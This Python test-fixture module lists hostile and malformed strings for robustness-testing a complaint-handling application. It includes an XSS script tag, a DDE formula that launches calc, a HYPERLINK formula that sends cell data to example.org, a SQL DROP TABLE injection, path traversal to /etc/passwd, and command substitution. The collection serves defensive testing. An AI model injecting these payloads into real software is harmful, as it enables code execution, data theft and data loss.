"""Hostile text: what attackers and accidents put into a complaint; every way out is tried on it.

Screens, reports and file names import ``HOSTILE`` too. The list of naughty
strings that others collected is read where it lies beside the checkout.
"""

import json
from pathlib import Path
from typing import Final

BLNS: Final = Path(__file__).parents[3] / "shared" / "data" / "hostile_text" / "blns.json"

HOSTILE: Final = {
    # markup
    "bold": "客户说 <b>很生气</b>",
    "unclosed": "<b>未闭合",
    "closes the paragraph": "</para></p></div>",
    "picture": '<img src="file:///etc/passwd" width="9"/>',
    "network picture": r'<img src="\\host\share\x.png">',
    "link": '<a href="http://example.org">click</a>',
    "script": "<script>alert(1)</script>",
    "font": '<font color="[[[getattr(pow, 1)]]]">x</font>',
    "ampersand": "A&B 与 AT&T",
    "entities": "&amp;lt; &nbsp; &#65; &#x41; &copy",
    "comment": "<!-- nothing --> ]]> <![CDATA[x]]>",
    "angle brackets": "<张三> a < b > c",
    "quotes": "\"double\" 'single' `back` “弯” ‘引’",
    "attribute": "\" onmouseover='x' b=\"",
    # formulas
    "sum": "=1+1",
    "command": "=cmd|' /C calc'!A0",
    "hyperlink": '=HYPERLINK("http://example.org/?x="&A1,"open")',
    "plus": "+86 13800005678",
    "minus": "-2+3",
    "at": "@SUM(A1:A9)",
    "tab and equals": "\t=1+1",
    "full-width equals": "＝1+1",
    "error value": "#N/A",
    "escape of the sheet": "_x0041_ and _x000D_",
    "looks like a number": "1e5",
    "looks like a date": "2026-11-22",
    # characters that nothing can carry
    "NUL": "before\x00after",
    "bell and escape": "\x07\x1b[31mred\x1b[0m",
    "vertical tab and form feed": "a\x0bb\x0cc",
    "C1 controls": "a\x80\x85\x9fb",
    "delete": "a\x7fb",
    "lone high surrogate": "x\ud800y",
    "lone low surrogate": "x\udfffy",
    "two surrogates the wrong way round": "\udc00\ud83d",
    "non-characters": "a\ufffe\uffff\ufdd0b",
    "byte order mark": "\ufeffstart",
    "replacement character": "already \ufffd lost",
    # direction and shape
    "right to left override": "invoice\u202efdp.exe",
    "isolates": "\u2066left\u2069 \u2067right\u2069 \u061c\u200f\u200e",
    "Arabic and Hebrew": "مرحبا שלום",
    "zero width": "a\u200bb\u200cc\u200dd\u2060e",
    "many marks": "Z\u0351\u036b\u0343\u036a\u0302\u036ba\u0321\u031b\u033al\u0335\u0349",
    "decomposed": "e\u0301 \u1100\u1161",
    "beyond the first plane": "𠮷野家 𬭚 𪚥",
    "emoji": "👨‍👩‍👧‍👦🏳️‍🌈",
    "unassigned": "\U000e0fff\U0003fffd",
    "private use": "\ue000\U000f0000",
    "ideographic space": "张\u3000三",
    # line ends and white space
    "line ends": "a\r\nb\rc\nd\u2028e\u2029f",
    "only white space": " \t\r\n\u3000 ",
    "empty": "",
    "lines and tabs": "第一行\n\t第二行\n\n第四行",
    # names of files
    "reserved": "CON",
    "reserved with an ending": "aux.txt",
    "reserved with a superscript": "com¹.pdf",
    "path": "../../../etc/passwd",
    "drive": r"C:\Windows\..\x:y",
    "dots and spaces": " ..name.. . ",
    "forbidden": 'a<b>c:d"e/f\\g|h?i*j',
    "full-width forbidden": "ａ／ｂ：ｃ＊？",
    # templates and queries
    "placeholders": "{x} {0} {} %s %d %n ${HOME} $(id) %(name)s {{y}}",
    "quotes for a query": "'; DROP TABLE act; --",
    "search operators": 'NEAR(a b) "x" AND * ^ : (',
    # length
    "very long line": "很长的投诉" * 20_000,
    "very long name": "名" * 400,
    "long beyond the first plane": "𠮷" * 20_000,
}


def collected() -> list[str]:
    """Return the naughty strings that others collected; none where the file is not there."""
    if not BLNS.is_file():
        return []
    texts: list[str] = json.loads(BLNS.read_text(encoding="utf-8"))
    return texts
